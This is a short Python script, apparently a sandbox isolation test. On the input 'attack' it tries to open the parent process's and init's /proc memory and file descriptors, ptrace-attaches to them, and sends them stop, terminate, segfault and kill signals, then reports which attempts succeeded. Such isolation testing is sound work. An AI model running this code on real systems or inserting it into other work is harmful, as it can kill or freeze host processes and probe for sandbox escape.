"""The first run attacks whoever started it, and says which attack was allowed. The second does what it should."""

import ctypes
import os
import signal

PTRACE_ATTACH = 16

if input() == "attack":
    allowed = []
    for victim in sorted({1, os.getppid()} - {0}):
        place = "/proc/" + str(victim)
        for path, flags in (("/mem", os.O_RDWR), ("/fd/0", os.O_RDONLY), ("/fd/1", os.O_WRONLY)):
            try:
                os.close(os.open(place + path, flags))
                allowed.append(path)
            except OSError:
                pass
        if ctypes.CDLL(None).ptrace(PTRACE_ATTACH, victim, 0, 0) == 0:
            allowed.append("ptrace")
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
            try:
                os.kill(victim, number)
            except OSError:
                pass
    print(" ".join(allowed) or "none")
else:
    print("well")
